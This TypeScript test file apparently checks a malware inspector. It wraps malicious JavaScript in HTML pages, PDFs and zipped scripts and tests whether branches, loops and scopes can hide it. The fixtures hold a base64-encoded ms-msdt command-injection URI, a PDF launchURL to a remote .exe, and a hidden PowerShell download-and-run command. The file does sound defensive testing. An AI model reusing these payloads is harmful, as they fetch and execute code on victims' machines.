/** A value that a branch may overwrite is judged with and without it: a harmless line does not hide a threat. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from './testing/inspector.ts'
import { pdf } from './testing/samples.ts'
import { writeZip } from './testing/zip-writer.ts'

const { inspect, outcome } = useInspector()

interface Language {
  /** An expression that is the threat, and one that is harmless. */
  evil: string
  harmless: string
  /** A condition that is not known. */
  unknown: string
  use(value: string): string
  wrap(source: string): Buffer
}

const languages: Record<string, Language> = {
  'a page': {
    evil: `atob("${Buffer.from('ms-msdt:/id PCWDiagnostic /skip force /param "IT_BrowseForFile=/../../$(calc).exe"').toString('base64')}")`,
    harmless: '"https://www.example.com/"',
    unknown: 'window.foo9',
    use: (value) => `location.href = ${value}`,
    wrap: (source) => Buffer.from(`<html><body><p>a</p><script>${source}</script></body></html>`),
  },
  'a PDF': {
    evil: '"http://192.0.2.1/a.exe"',
    harmless: '"https://www.example.com/"',
    unknown: 'app.foo9',
    use: (value) => `app.launchURL(${value})`,
    wrap: (source) =>
      pdf([
        '<< /Type /Catalog /OpenAction 2 0 R >>',
        `<< /S /JavaScript /JS (${source.replace(/[\\()]/g, '\\$&')}) >>`,
      ]),
  },
  'a script': {
    evil: '"powershell -w hidden -c iwr http://192.0.2.1/a -OutFile a.exe; .\\\\a.exe"',
    harmless: '"notepad c:\\\\a.txt"',
    unknown: 'WScript.Arguments(0)',
    use: (value) => `new ActiveXObject("WScript.Shell").Run(${value})`,
    wrap: (source) => writeZip([{ name: 'a.js', data: source }]),
  },
}

type Form = (language: Language) => string

/** `e`: the threat, `h`: the harmless value, `c`: an unknown condition. */
const threats: Record<string, Form> = {
  'nothing else': ({ evil: e, use }) => `var u = ${e}; ${use('u')}`,
  'a branch that overwrites it': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; if (${c}) u = ${h}; ${use('u')}`,
  'a branch that sets it': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${h}; if (${c}) u = ${e}; ${use('u')}`,
  'the first of two branches': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u; if (${c}) { u = ${e} } else { u = ${h} } ${use('u')}`,
  'the second of two branches': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u; if (${c}) { u = ${h} } else { u = ${e} } ${use('u')}`,
  'branches in branches': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; if (${c}) { if (${c} == 2) { u = ${h} } else u = "" } ${use('u')}`,
  'a switch': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u; switch (${c}) { case 1: u = ${e}; break; case 2: u = ${h}; break } ${use('u')}`,
  'a labelled block that is left': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; a: { if (${c}) { u = ${h} } else { break a } } ${use('u')}`,
  'a label around a switch': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; a: { switch (${c}) { case 1: break a } u = ${h} } ${use('u')}`,
  'a loop that leaves the one around it': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; a: do { do { if (${c}) break a } while (0); u = ${h} } while (0); ${use('u')}`,
  'a switch that falls through': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; switch (${c}) { case 1: break; case 2: case 3: u = ${h} } ${use('u')}`,
  'a default': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u; switch (${c}) { default: u = ${e}; break; case 2: u = ${h} } ${use('u')}`,
  'a loop': ({ evil: e, harmless: h, unknown: c, use }) => `var u = ${e}; while (${c}) { u = ${h} } ${use('u')}`,
  'a loop that sets it': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${h}; for (var i = 0; i < ${c}; i++) { u = ${e} } ${use('u')}`,
  'a loop in two turns': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${h}, t = ${h}; while (${c}) { u = t; t = ${e} } ${use('u')}`,
  'a loop that may be left': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; for (;;) { if (${c}) break; u = ${h}; break } ${use('u')}`,
  'a loop that may go on': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; for (var i = 0; i < 2; i++) { if (${c}) continue; u = ${h} } ${use('u')}`,
  'a loop over an unknown list': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; for (var k in ${c}) { u = ${h} } ${use('u')}`,
  'a loop that tests last': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u, i = 0; do { u = i++ ? ${h} : ${e} } while (${c}); ${use('u')}`,
  'a choice': ({ evil: e, harmless: h, unknown: c, use }) => `var u = ${c} ? ${e} : ${h}; ${use('u')}`,
  'a choice in the other order': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${c} ? ${h} : ${e}; ${use('u')}`,
  'a choice without a variable': ({ evil: e, harmless: h, unknown: c, use }) => use(`${c} ? ${h} : ${e}`),
  'an and': ({ evil: e, harmless: h, unknown: c, use }) => `var u = ${e}; ${c} && (u = ${h}); ${use('u')}`,
  'an or': ({ evil: e, harmless: h, unknown: c, use }) => `var u = ${e}; ${c} || (u = ${h}); ${use('u')}`,
  'the value of an or': ({ evil: e, unknown: c, use }) => `var u = ${c} || ${e}; ${use('u')}`,
  'the value of an and': ({ evil: e, unknown: c, use }) => `var u = ${c} && ${e}; ${use('u')}`,
  'an assignment with or': ({ evil: e, unknown: c, use }) => `var u = ${c}; u = u || ${e}; ${use('u')}`,
  'an exception': ({ evil: e, harmless: h, use }) =>
    `var u = ${e}; try { nothing(); u = ${h} } catch (x) { } ${use('u')}`,
  'an exception that is thrown': ({ evil: e, harmless: h, use }) =>
    `var u = ${h}; try { throw 1; u = ${h} } catch (x) { u = ${e} } ${use('u')}`,
  'a handler that overwrites it': ({ evil: e, harmless: h, use }) =>
    `var u; try { u = ${e}; nothing() } catch (x) { u = ${h} } ${use('u')}`,
  'a value in the middle of a try': ({ evil: e, harmless: h, use }) =>
    `var u; try { u = ${e}; nothing(); u = ${h} } catch (x) { ${use('u')} }`,
  'a value that is thrown': ({ evil: e, use }) => `try { throw ${e} } catch (x) { ${use('x')} }`,
  'what a function throws': ({ evil: e, harmless: h, unknown: c, use }) =>
    `function f() { if (${c}) throw 1; return ${h} } var u = ${e}; try { u = f() } catch (x) { } ${use('u')}`,
  'an early return': ({ evil: e, harmless: h, unknown: c, use }) =>
    `function f() { if (${c}) return ${e}; return ${h} } ${use('f()')}`,
  'a late return': ({ evil: e, harmless: h, unknown: c, use }) =>
    `function f() { if (${c}) return ${h}; return ${e} } ${use('f()')}`,
  'a return in a loop': ({ evil: e, harmless: h, unknown: c, use }) =>
    `function f() { for (var i = 0; i < 3; i++) { if (${c}) return ${e} } return ${h} } ${use('f()')}`,
  'a return before it is overwritten': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; function f() { if (${c}) return; u = ${h} } f(); ${use('u')}`,
  'a return in a branch in a branch': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; function f() { if (${c}) { if (${c} == 3) return } u = ${h} } f(); ${use('u')}`,
  'a return in a loop before it is overwritten': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; function f() { while (true) { if (${c}) return; break } u = ${h} } f(); ${use('u')}`,
  'a local variable of the same name': ({ evil: e, harmless: h, use }) =>
    `var u = ${e}; function f() { var u = ${h}; return u } f(); ${use('u')}`,
  'a local variable that is declared later': ({ evil: e, harmless: h, use }) =>
    `var u = ${e}; function f() { u = ${h}; var u } f(); ${use('u')}`,
  'a parameter of the same name': ({ evil: e, harmless: h, use }) =>
    `var u = ${e}; function f(u) { u = ${h} } f(1); ${use('u')}`,
  'a function in a function': ({ evil: e, harmless: h, use }) =>
    `var u = ${e}; (function () { function u() {} u = ${h} })(); ${use('u')}`,
  'a block variable of the same name': ({ evil: e, harmless: h, use }) => `let u = ${e}; { let u = ${h} } ${use('u')}`,
  'a variable of a loop': ({ evil: e, harmless: h, use }) =>
    `let u = ${e}; for (let u = ${h}; u != ${h}; ) { } for (const u of [${h}]) { } ${use('u')}`,
  'a caught value of the same name': ({ evil: e, harmless: h, use }) =>
    `var u = ${e}; try { throw 1 } catch (u) { u = ${h} } ${use('u')}`,
  'a dead branch': ({ evil: e, harmless: h, use }) => `var u = ${e}; if (false) { u = ${h} } ${use('u')}`,
  'a branch that is never taken': ({ evil: e, harmless: h, use }) => `var u = ${e}; if (1 > 2) u = ${h}; ${use('u')}`,
  'a loop that never runs': ({ evil: e, harmless: h, use }) =>
    `var u = ${e}; for (var i = 5; i < 3; i++) { u = ${h} } while (false) u = ${h}; ${use('u')}`,
  'a function that nothing calls': ({ evil: e, harmless: h, use }) =>
    `var u = ${e}; function f() { u = ${h} } ${use('u')}`,
  'a handler that may run': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; ${c}.on("x", function () { u = ${h} }); ${use('u')}`,
  'a member of a record': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var o = { u: ${e} }; if (${c}) o.u = ${h}; ${use('o.u')}`,
  'an item of a list': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var a = [${e}]; if (${c}) a[0] = ${h}; ${use('a[0]')}`,
  'an item that may be removed': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var a = [${h}, ${e}]; if (${c}) a.pop(); ${use('a[1]')}`,
  'an item at an unknown place': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var a = [${h}, ${e}]; ${use(`a[${c}]`)}`,
  'an entry by an unknown key': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var o = { x: ${h} }; o[${c}] = ${e}; ${use('o.x')}`,
  'a member of the host': ({ evil: e, harmless: h, unknown: c, use }) =>
    `this.u9 = ${e}; if (${c}) this.u9 = ${h}; ${use('this.u9')}`,
  'a function that is chosen': ({ evil: e, harmless: h, unknown: c, use }) =>
    `function f() { return ${e} } function g() { return ${h} } var k = ${c} ? f : g; ${use('k()')}`,
  'joined pieces': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var a = ${e}.substring(0, 3), b = ${e}.substring(3); if (${c}) a = ""; if (${c} == 2) b = ${h}; ${use('a + b')}`,
  'pieces in a list': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var a = [${e}.substring(0, 3), ${e}.substring(3)]; if (${c}) a[0] = ${h}; ${use('a.join("")')}`,
  'a default of a parameter': ({ evil: e, use }) => `function f(u = ${e}) { ${use('u')} } f()`,
  'a pattern of variables': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var { u } = { u: ${e} }; if (${c}) [u] = [${h}]; ${use('u')}`,
  'nine values': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; ${Array.from({ length: 9 }, (_, i) => `if (${c} == ${i}) u = ${h} + "${i}";`).join(' ')} ${use('u')}`,
  'nine values in other places': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ""; ${Array.from({ length: 9 }, (_, i) => `if (${c} == ${i}) u = ${i === 4 ? e : `${h} + "${i}"`};`).join(' ')} ${use('u')}`,
}

for (const [name, language] of Object.entries(languages))
  suite(`${name} is a threat with`, () => {
    for (const [form, source] of Object.entries(threats))
      test(form, () => {
        const { findings, obstacle } = inspect(language.wrap(source(language)))
        assert.ok(
          findings.some(({ severity }) => severity === 'malicious'),
          `${findings.map(({ id }) => id).join(' ')} ${obstacle?.detail ?? ''}`,
        )
      })
  })

/** The threat is in the source, and nothing can reach it. */
const harmless: Record<string, Form> = {
  'overwritten in every case': ({ evil: e, harmless: h, use }) => `var u = ${e}; u = ${h}; ${use('u')}`,
  'overwritten by both branches': ({ evil: e, harmless: h, unknown: c, use }) =>
    `var u = ${e}; if (${c}) u = ${h}; else u = ${h}; ${use('u')}`,
  'in a branch that is left': ({ evil: e, harmless: h, unknown: c, use }) =>
    `function f() { var u = ${h}; if (${c}) { u = ${e}; return } ${use('u')} } f()`,
  'in a variable of a block': ({ evil: e, harmless: h, use }) => `let u = ${h}; { let u = ${e} } ${use('u')}`,
  'in a variable of a function': ({ evil: e, harmless: h, use }) =>
    `var u = ${h}; function f() { var u = ${e}; return 1 } f(); ${use('u')}`,
  'in a dead branch': ({ evil: e, harmless: h, use }) => `var u = ${h}; if (1 > 2) u = ${e}; ${use('u')}`,
}

for (const [name, language] of Object.entries(languages))
  suite(`${name} is no threat that is`, () => {
    for (const [form, source] of Object.entries(harmless))
      test(form, () => assert.equal(outcome(language.wrap(source(language))), undefined))
  })
